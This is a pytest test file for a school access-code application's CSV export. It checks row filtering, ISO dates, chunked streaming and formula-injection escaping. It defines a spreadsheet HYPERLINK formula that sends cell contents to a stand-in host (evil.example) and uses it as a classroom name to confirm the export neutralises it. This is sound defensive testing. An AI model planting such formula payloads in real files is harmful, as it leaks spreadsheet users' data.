"""Export CSV: exactly the rows the filtered table shows, all pages, with a header,
ISO 8601 dates and cells a spreadsheet cannot run as formulas."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from sqlalchemy import select

from codes import database
from codes.access import Scope
from codes.bulk import operations
from codes.bulk.operations import EXPORT_HEADER, BatchInput, generate_batch
from codes.csvfile import chunks as csv_chunks
from codes.csvfile import inert
from codes.extensions import db
from codes.manage.operations import deactivate
from codes.models import Classroom, Code, utcnow
from codes.orgs import operations as orgs
from codes.redeem.operations import redeem
from codes.timeutil import to_local, to_utc
from conftest import Factory, batch_of, soup

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your grade")'


@pytest.fixture
def school(make):
    org = make.org(name="Oak School", timezone="America/New_York")
    algebra = make.course(org, "Algebra")
    room = make.classroom(org, "Room 9A")
    return org, room, algebra


@pytest.fixture
def admin(client, school):
    client.login(school[0].admin)
    return client


def download(client, org, **args):
    response = client.get(f"/orgs/{org.id}/bulk/export.csv", query_string=args)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="codes-')
    assert response.is_streamed
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0] == EXPORT_HEADER
    return [dict(zip(EXPORT_HEADER, row, strict=True)) for row in rows[1:]]


def table(client, org, **args):
    """Every row of the table across its pages, as (code, targets, uses, expires, status)."""
    seen, number = [], 1
    while True:
        page = soup(client.get(f"/orgs/{org.id}/bulk", query_string={**args, "page": number}))
        for tr in page.select("#codes-table tr.code-row"):
            seen.append(tuple(td.get_text(" ", strip=True) for td in tr.find_all("td")[:5]))
        if page.select_one(".pager a[rel=next]") is None:
            return seen
        number += 1


def as_table_row(row):
    uses = f"{row['Uses']} / {row['Max uses'] or '∞'}"
    expires = datetime.fromisoformat(row["Expires"]).date().isoformat() if row["Expires"] else "Never"
    return (row["Code"], row["Course / classroom"], uses, expires, row["Status"])


@pytest.fixture
def many(school, make):
    org, room, algebra = school
    until = to_utc(org, date(2099, 1, 31), end_of_day=True)
    big = batch_of(org, 130, prefix="BIG", course_ids=[algebra.id], valid_until=until, max_uses=3)
    small = batch_of(org, 7, prefix="SMALL", max_uses=None)
    make.code(org, "CUSTOM-PTA-2027", classrooms=[room], courses=[algebra])
    first = db.session.scalar(select(Code).where(Code.batch_id == big.id).order_by(Code.id))
    deactivate(org.admin, first)
    db.session.commit()
    return big, small


@pytest.mark.parametrize(
    "args",
    [
        {},
        {"status": "all"},
        {"status": "deactivated"},
        {"batch": "big"},
        {"batch": "small", "status": "all"},
        {"q": "big"},
        {"batch": "big", "q": "q"},
        {"q": "nothing"},
    ],
)
def test_export_has_exactly_the_rows_of_the_filtered_table(admin, school, many, args):
    org = school[0]
    big, small = many
    if "batch" in args:
        args = {**args, "batch": {"big": big.id, "small": small.id}[args["batch"]]}
    shown = table(admin, org, **args)
    exported = download(admin, org, **args)
    assert [as_table_row(row) for row in exported] == shown
    if args == {"status": "all"}:
        assert len(exported) == 130 + 7 + 1 + 1, "both batches, the custom code and the join code"
    if args == {}:
        assert len(exported) == 130 + 7 + 1 + 1 - 1, "live by default: all but the deactivated one"
    if args == {"status": "deactivated"}:
        assert [row["Status"] for row in exported] == ["Deactivated"]


def test_values_and_iso_dates(admin, school, many):
    org, room, algebra = school
    big, small = many
    rows = {row["Code"]: row for row in download(admin, org, status="all")}
    code = db.session.scalar(select(Code).where(Code.batch_id == big.id).order_by(Code.id.desc()))
    row = rows[code.text]
    assert row["Course / classroom"] == "Room 9A, Algebra"
    assert (row["Uses"], row["Max uses"], row["Status"], row["Role"], row["Batch"]) == (
        "0",
        "3",
        "Active",
        "student",
        str(big.id),
    )
    expires = datetime.fromisoformat(row["Expires"])
    assert expires.utcoffset() == timedelta(hours=-5)
    assert expires == to_local(org, code.valid_until).replace(microsecond=0)
    assert row["Expires"] == "2099-01-31T23:59:59-05:00"
    created = datetime.fromisoformat(row["Created"])
    assert abs(created - to_local(org, utcnow())) < timedelta(minutes=5)
    custom = rows["CUSTOM-PTA-2027"]
    assert (custom["Max uses"], custom["Expires"], custom["Batch"]) == ("", "", "")
    deactivated = [r for r in rows.values() if r["Status"] == "Deactivated"]
    assert len(deactivated) == 1


def test_formula_payloads_in_text_cells_are_inert(admin, school, make):
    org, room, algebra = school
    evil_room = make.classroom(org, HYPERLINK)
    plus_course = make.course(org, "+1 Extra credit")
    make.code(org, "-DASH-FIRST", classrooms=[evil_room])
    make.code(org, "PLUS-COURSE-1", courses=[plus_course])
    rows = {row["Code"]: row for row in download(admin, org)}
    assert rows["'-DASH-FIRST"]["Course / classroom"] == "'" + HYPERLINK
    assert rows["PLUS-COURSE-1"]["Course / classroom"] == "'+1 Extra credit"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx"])
def test_cells_that_start_a_formula_get_an_apostrophe(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Room 9A", "", 3, "a=b", "2027-01-01T00:00:00+00:00"])
def test_other_cells_stay_as_they_are(cell):
    assert inert(cell) == cell


def test_csv_comes_in_pieces_of_rows():
    pieces = list(csv_chunks(["A"], ([n] for n in range(2500)), chunk=1000))
    assert len(pieces) == 3
    assert pieces[0].startswith("\ufeffA\r\n0\r\n")
    assert [len(p.splitlines()) for p in pieces] == [1001, 1000, 500]


def test_redeemed_uses_and_used_status_are_exported(admin, school, make):
    org, room, algebra = school
    batch = batch_of(org, 2)
    code = db.session.scalar(select(Code).where(Code.batch_id == batch.id).order_by(Code.id))
    redeem(make.user("Sam"), code.text)
    db.session.commit()
    rows = {row["Code"]: row for row in download(admin, org, batch=batch.id, status="used")}
    assert (rows[code.text]["Uses"], rows[code.text]["Status"]) == ("1", "Used")
    assert len(rows) == 1, "the other code of the batch is live, not used up"


def test_rows_in_many_chunks_keep_their_targets_on_both_databases(any_db_app, monkeypatch):
    """Read in chunks (here of 4 rows), each chunk looks up its own codes' targets."""
    monkeypatch.setattr(operations, "EXPORT_CHUNK", 4)
    make = Factory()
    org = make.org(name="Oak School")
    algebra, biology = make.course(org, "Algebra"), make.course(org, "Biology")
    room = make.classroom(org, "Room 9A")
    scope = Scope(org.admin, org)
    both = generate_batch(
        org.admin, scope, BatchInput(count=5, classroom_ids=[room.id], course_ids=[biology.id, algebra.id])
    )
    one = generate_batch(org.admin, scope, BatchInput(count=6, course_ids=[biology.id]))
    db.session.commit()
    rows = list(operations.export_rows(scope, operations.CodeFilter()))
    by_batch = {}
    for row in rows:
        by_batch.setdefault(row[7], set()).add(row[1])
    assert by_batch == {one.id: {"Biology"}, both.id: {"Room 9A, Algebra, Biology"}, "": {"Room 9A"}}
    assert len(rows) == 5 + 6 + 1


def every_kind_of_code(make):
    """An organization with a code of every status, of both roles, with and
    without a batch, an expiry and a limit, and targets whose names need CSV
    quoting or would start a formula."""
    org = make.org(name="Oak School", timezone="America/New_York")
    quoted = make.classroom(org, 'Room "A", east')
    evil = make.classroom(org, HYPERLINK)
    algebra = make.course(org, "Algebra, grade 9")
    plus = make.course(org, "+1 Extra credit")
    now = utcnow()
    batch_of(org, 3, prefix="B", classroom_ids=[quoted.id], course_ids=[algebra.id, plus.id], max_uses=None)
    batch_of(org, 2, classroom_ids=[evil.id], valid_until=now + timedelta(days=30), max_uses=2)
    kinds = {
        "active": make.code(org, "ACTIVE-1", classrooms=[quoted], courses=[algebra]),
        "expired": make.code(org, "-EXPIRED-1", classrooms=[evil]),
        "used": make.code(org, "USED-1", courses=[plus], max_uses=1),
        "off": make.code(org, "OFF-1", classrooms=[quoted]),
        "scheduled": make.code(org, "LATER-1", classrooms=[quoted], valid_from=now + timedelta(days=3)),
        "gone": make.code(org, "GONE-1", classrooms=[quoted]),
        "deactivated": make.code(org, "DEACT-1", courses=[algebra]),
        "staff": make.code(org, "STAFF-1", classrooms=[quoted], role="teacher"),
    }
    kinds["expired"].valid_until = now - timedelta(days=1)
    kinds["used"].uses = 1
    kinds["off"].enabled = False
    kinds["gone"].targets_deleted_at = now
    db.session.commit()
    deactivate(org.admin, kinds["deactivated"])
    db.session.commit()
    return org


@pytest.mark.parametrize("tails_kept", [operations.TAILS_KEPT, 1])
def test_csv_text_is_what_csv_writer_writes_of_the_rows_on_both_databases(
    any_db_app, monkeypatch, tails_kept
):
    """export_csv writes its own lines: they are csvfile.chunks' of export_rows, byte
    for byte, for every kind of code and awkward names, on both databases, with
    the cells after the code kept written or written again for every row."""
    monkeypatch.setattr(operations, "TAILS_KEPT", tails_kept)
    org = every_kind_of_code(Factory())
    scope = Scope(org.admin, org)
    for status_filter in operations.STATUS_FILTERS:
        filters = operations.CodeFilter(status=status_filter)
        now = utcnow()
        written = "".join(operations.export_csv(scope, filters, now))
        expected = "".join(
            csv_chunks(EXPORT_HEADER, operations.export_rows(scope, filters, now), made_inert=True)
        )
        assert written == expected, status_filter
    rows = list(csv.reader(io.StringIO(written.lstrip("\ufeff"))))
    assert len(rows) == 1 + 3 + 2 + 8 + 2, "the header, both batches, each custom code, two join codes"
    shown = {row[0]: row for row in rows[1:]}
    assert shown["'-EXPIRED-1"][1] == "'" + HYPERLINK
    assert shown["ACTIVE-1"][1] == 'Room "A", east, Algebra, grade 9'
    statuses = {row[5] for row in rows[1:]}
    assert statuses == {"Active", "Expired", "Used", "Off", "Scheduled", "No longer valid", "Deactivated"}


@pytest.mark.parametrize("extra", [0, 1])
def test_rows_at_a_chunk_boundary_come_once_each_on_both_databases(any_db_app, monkeypatch, extra):
    """Exactly EXPORT_CHUNK rows, and one more: every row once, in the table's order."""
    monkeypatch.setattr(operations, "EXPORT_CHUNK", 4)
    make = Factory()
    org = make.org(name="Oak School")
    room = make.classroom(org, "Room 9A")
    scope = Scope(org.admin, org)
    # The classroom's join code is a row too.
    generate_batch(org.admin, scope, BatchInput(count=3 + extra, classroom_ids=[room.id]))
    db.session.commit()
    listed = list(
        db.session.scalars(
            operations.filtered_codes(scope, operations.CodeFilter()).with_only_columns(Code.text)
        )
    )
    assert len(listed) == 4 + extra
    assert [row[0] for row in operations.export_rows(scope, operations.CodeFilter())] == listed
    pieces = list(operations.export_csv(scope, operations.CodeFilter()))
    assert len(pieces) == 1 + 1 + extra, "the header, then a piece for each chunk"
    rows = list(csv.reader(io.StringIO("".join(pieces).lstrip("\ufeff"))))
    assert [row[0] for row in rows[1:]] == listed
    counted = list(operations.export_pieces(scope, operations.CodeFilter()))
    assert [text for text, _ in counted] == pieces
    assert [rows for _, rows in counted] == [0, 4] + [1] * extra, "the header holds no row"


def export_statement(scope, filters, now):
    """_export_result's statement, as SQLAlchemy itself reads it."""
    rows = []
    original = database.chunked_rows

    def read_by_sqlalchemy(connection, statement, size):
        rows.extend(tuple(row) for row in connection.execute(statement))
        return original(connection, statement, size)

    return rows, read_by_sqlalchemy


@pytest.mark.parametrize(
    "who, filters",
    [
        ("admin", {"status": "all"}),
        ("admin", {"search": "active"}),
        ("leader", {"status": "all"}),
        ("leader", {"status": "off"}),
        ("leader", {"status": "all", "search": "off-1"}),
    ],
)
def test_rows_read_in_chunks_are_sqlalchemys_rows_on_both_databases(any_db_app, monkeypatch, who, filters):
    """database.chunked_rows (on PostgreSQL psycopg's chunked rows mode, the
    statement compiled by the app) gives the rows, values and types SQLAlchemy
    gives for the export's statement: a leader's scope (IN lists of their
    classrooms), a search (the trigram index's ids), a status at an instant."""
    monkeypatch.setattr(operations, "EXPORT_CHUNK", 3)
    make = Factory()
    org = every_kind_of_code(make)
    leader = make.user("Leo Leader")
    make.classroom(org, "Room 7", leaders=[leader])
    quoted = db.session.scalar(select(Classroom).where(Classroom.name == 'Room "A", east'))
    orgs.add_leader(org.admin, quoted, leader.id)
    db.session.commit()
    scope = Scope(org.admin if who == "admin" else leader, org)
    now = utcnow()
    expected, spy = export_statement(scope, operations.CodeFilter(**filters), now)
    monkeypatch.setattr(database, "chunked_rows", spy)
    chunks = list(operations._export_result(scope, operations.CodeFilter(**filters), now))
    assert [tuple(row) for chunk in chunks for row in chunk] == expected
    assert expected, "some rows to compare"
    assert all(len(chunk) <= 3 for chunk in chunks)
    assert [type(value) for value in expected[0]] == [type(value) for value in chunks[0][0]]


def test_an_export_stopped_half_way_leaves_the_connection_usable_on_both_databases(any_db_app, monkeypatch):
    """A download cut short closes the rows half-way: the session's connection
    goes on (on PostgreSQL psycopg cancels the statement and reads what was sent)."""
    monkeypatch.setattr(operations, "EXPORT_CHUNK", 2)
    org = every_kind_of_code(Factory())
    scope = Scope(org.admin, org)
    pieces = operations.export_csv(scope, operations.CodeFilter(status="all"))
    next(pieces), next(pieces)
    pieces.close()
    assert db.session.scalar(select(Code.text).where(Code.org_id == org.id).order_by(Code.id).limit(1))
    db.session.rollback()
